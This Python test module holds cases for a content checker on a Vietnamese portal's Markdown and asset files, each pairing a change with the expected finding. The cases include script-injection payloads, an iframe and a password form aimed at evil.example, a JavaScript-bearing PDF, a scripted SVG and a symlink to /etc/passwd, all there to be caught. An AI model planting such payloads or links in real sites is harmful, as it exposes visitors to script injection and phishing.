"""The shared cases about prose, links and files, made again on the portal's own content.

Each is a change to a copy of ``content/`` and all that is told of it: code, file, line, field, value.
"""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.made_up import Told

Change = Callable[[Path], None]
# A real page; what is added to it begins two lines below its end.
PAGE = "en/gioi-thieu/index.md"
PDF = (
    b"%%PDF-1.4\n1 0 obj<</Type/Catalog%s/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R%s>>\n%%%%EOF\n"
)
A_PDF = "assets/documents/a.pdf"


@dataclass(frozen=True, kw_only=True)
class Case:
    """``told`` names lines from the first one that is added to the page; nothing is told of a good case."""

    change: Change
    told: Sequence[Told] = ()


def added(text: str, *told: tuple[str, int, str]) -> Case:
    """Text added to a real page, and what is told of it: code, line within the text, value."""

    def change(content: Path) -> None:
        with (content / PAGE).open("a", encoding="utf-8") as page:
            page.write(f"\n{text}\n")

    return Case(change=change, told=[(code, f"content/{PAGE}", line, "", value) for code, line, value in told])


def put(path: str, content: bytes, *told: tuple[str, int | None, str, str]) -> Case:
    """A file put beside the real ones, and what is told of it: code, line, field, value."""

    def change(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content)

    return Case(
        change=change, told=[(code, f"content/{path}", line, field, value) for code, line, field, value in told]
    )


def linked(path: str, target: str) -> Case:
    """A symbolic link among the files."""

    def change(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).symlink_to(target)

    return Case(change=change, told=[("file-outside", f"content/{path}", None, "", "")])


def front(text: str, *told: tuple[str, int, str, str]) -> Case:
    """Another front matter for a real page."""

    def change(content: Path) -> None:
        body = (content / PAGE).read_text(encoding="utf-8").split("\n---\n", 1)[1]
        (content / PAGE).write_text(f"---\n{text}\n---\n{body}", encoding="utf-8")

    return Case(
        change=change, told=[(code, f"content/{PAGE}", line, field, value) for code, line, field, value in told]
    )


CASES: Mapping[str, Case] = {
    "X20-page-raw-html": added(
        "<iframe src=https://evil.example></iframe>\n\n<script>alert(1)</script>\n<div onclick=alert(1)>x</div>",
        ("prose-html", 1, "<iframe src=https://evil.example></iframe>"),
        ("prose-html", 3, "<script>alert(1)</script>"),
        ("prose-html", 4, "<div onclick=alert(1)>x</div>"),
    ),
    "X22-page-attr-list": added(
        "[x](phuong-phap.md){ onmouseover=alert(1) style=position:fixed }",
        ("prose-attributes", 1, "{ onmouseover=alert(1) style=position:fixed }"),
    ),
    "X24-svg-script": put(
        "assets/pictures/x.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject/></svg>',
        ("svg-unsafe", 1, "", "onload="),
        ("svg-unsafe", 1, "", "<script>"),
        ("svg-unsafe", 1, "", "<foreignObject>"),
    ),
    "X26-title-script": front('title: "<script>alert(1)</script> A & B"\ndescription: \'"><script>alert(2)</script>\''),
    "X28-extra-html-file": put(
        "assets/documents/login.html",
        b"<form action=https://evil.example><input type=password></form>",
        ("file-kind", None, "", "login.html"),
    ),
    "X30-mermaid": added("```mermaid\ngraph LR; A-->B\n```", ("prose-block", 1, "mermaid")),
    "Y21-front-matter-invalid": front("title: 'About\nx: [", ("yaml-syntax", 3, "", "")),
    "K01-broken-internal": added("[a](nope.md)", ("link-broken", 1, "nope.md")),
    "K03-http": added("[a](http://example.gov.vn/)", ("link-http", 1, "http://example.gov.vn/")),
    "K05-windows-path": added("[a](C:\\Users\\an\\bc.pdf)", ("link-local", 1, "C:\\Users\\an\\bc.pdf")),
    "K07-localhost": added("[a](http://192.168.1.10/bc)", ("link-local", 1, "http://192.168.1.10/bc")),
    "K09-protocol-relative": added("[a](//evil.example/)", ("link-protocol", 1, "//evil.example/")),
    "K13-symlink-out": linked("assets/documents/b.pdf", "/etc/passwd"),
    "K15-huge-pdf": put(A_PDF, PDF % (b"", b"") + b"%" * (10 * 1024 * 1024), ("file-too-large", None, "", "")),
    "K17-pdf-javascript": put(
        A_PDF, PDF % (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b""), ("pdf-active", None, "", "/JavaScript")
    ),
    "K19-filename-nfd-space": put(
        "assets/documents/Ba\u0301o ca\u0301o (cuo\u0302\u0301i).pdf",
        PDF % (b"", b""),
        ("file-name-letters", None, "", "Ba\u0301o ca\u0301o (cuo\u0302\u0301i).pdf"),
    ),
    "P07-pdf-author": put(
        A_PDF,
        PDF % (b"", b"/Info<</Author(Nguyen Van An)/Creator(C:\\Users\\an)>>"),
        ("file-metadata", None, "Author", "Nguyen Van An"),
        ("file-metadata", None, "Creator", "C:\\Users\\an"),
    ),
    "S03-page-case-collision": put(
        "en/gioi-thieu/Phuong-phap.md",
        b"---\ntitle: Another page\ndescription: A page with a name that is taken.\n---\nText.\n",
        ("file-name-case", None, "", "en/gioi-thieu/Phuong-phap.md"),
    ),
    "S05-page-vs-folder": put(
        "en/gioi-thieu/phuong-phap/index.md",
        b"---\ntitle: Another page\ndescription: A page whose address is taken.\n---\nText.\n",
        ("page-address", 1, "", "gioi-thieu/phuong-phap/"),
    ),
}

# What only looks strange: added to a real page, each alone.
GOOD: Mapping[str, str] = {
    "a heading with a quote": "## What “cleaner” means, and what it doesn't\n",
    "a heading with signs": "## 5 < 6 & 7 > 6: a test?\n",
    "a heading twice": "## Again\n\ntext\n\n## Again\n",
    "an anchor": "## Read this\n\n[read](#read-this)\n",
    "an anchor in another page": "[x](../giai-phap/sau-buoc.md#where-this-page-comes-from)\n",
    "less than": "5 < 6, a < b and c > d, <3, <=, <>\n",
    "an ampersand": "R&D, AT&T, &amp;, &lt;script&gt;, &copy\n",
    "html in code": "`<script>alert(1)</script>`\n",
    "html in a block of code": "```html\n<iframe src=\"https://a.example\"></iframe>\n```\n",
    "a template in code": "`{{ config }}` and `{% raw %}`\n",
    "braces": "{a; b}, {1, 2}, { }\n",
    "a percent sign": "100 % {of all}\n",
    "javascript as a word": "javascript: a language; data: facts\n",
    "an escaped link": "\\[x](javascript:alert(1))\n",
    "a link in code": "`[x](javascript:alert(1))`\n",
    "a link with a script in its query": "[x](https://a.example.vn/?q=javascript:alert(1))\n",
    "a link with brackets": "[x](https://a.example.vn/wiki/A_(b))\n",
    "a link with Vietnamese letters": "[x](https://a.example.vn/sản-xuất)\n",
    "an address as it is": "<https://a.example.vn/>\n",
    "a link with a title": "[x](phuong-phap.md 'onclick=\"x\"')\n",
    "a reference": "[x][y]\n\n[y]: https://a.example.vn/ \"title\"\n",
    "brackets": "[1], [x] and [^1]\n",
    "micro and degrees": "5 µm, 20 °C, m³, 10⁻³, ½, ≤ 5, −5, №\n",
    "quotation marks": "“a”, ‘b’, «c», \"d\", 'e'\n",
    "a no-break space": "10\u00a0kWh, 1\u202f000\n",
    "letters apart from their marks": "Qua\u0309ng Bi\u0300nh\n",
    "another script": "工場, завод, Ω, ①, ﬁ\n",
    "a face": "😀 ✅\n",
    "rules and stars": "---\n\n***\n\n* * *\n",
    "a heading underlined": "Sources\n-------\n",
    "a table": "| a \\| b | `|` |\n|---|--:|\n| =1+1 | -5 |\n",
    "a formula": "=1+1, +84, -x, @a\n",
    "a long number": "Decision 2384/QĐ-UBND of 30/9/2013; tax code 3100123456; 1.234.567.890\n",
    "a path": "api/v1/&lt;table&gt;.json, C:\\, /etc/passwd\n",
    "a mark at the end": "Really??? Yes!!! :::\n",
    "shell": "`rm -rf $(pwd); --strict`\n",
    "a line of signs": "%0A::error::x ]]> --> */ ${x} #{x}\n",
    "an escape spelled out": "\\u001b[31m, \\x00, %00\n",
    "a snippet mark inside": "a --8<-- b\n",
}  # fmt: skip
